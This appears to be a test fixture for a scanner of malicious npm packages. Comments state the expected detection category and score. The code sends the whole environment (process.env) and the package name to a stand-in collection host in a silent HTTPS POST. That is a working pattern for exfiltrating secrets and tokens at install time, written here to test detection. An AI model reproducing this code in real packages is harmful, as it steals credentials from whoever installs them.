// expect: category=network min=75 context=plugin,package
// why: environment variables become the body of an HTTPS request to a collection host.
const https = require('https');

const req = https.request({
  hostname: 'collect.example',
  port: 443,
  path: '/install',
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
});
req.on('error', () => {});
req.end(JSON.stringify({ env: process.env, pkg: process.env.npm_package_name }));
